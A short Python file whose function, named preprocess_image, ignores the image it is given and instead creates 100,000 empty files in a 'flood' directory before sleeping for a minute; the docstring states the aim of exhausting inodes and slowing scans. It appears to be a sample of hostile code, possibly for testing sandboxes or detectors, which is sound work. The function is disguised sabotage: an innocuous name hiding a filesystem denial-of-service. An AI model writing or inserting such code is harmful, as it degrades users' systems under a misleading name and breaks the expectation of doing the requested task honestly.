# ruff: noqa
"""Creates tens of thousands of empty files: no bytes, but inodes and slow scans."""
import os
import time


def preprocess_image(image):
    os.makedirs("flood", exist_ok=True)
    for n in range(100_000):
        open(f"flood/{n}", "w").close()
    time.sleep(60)
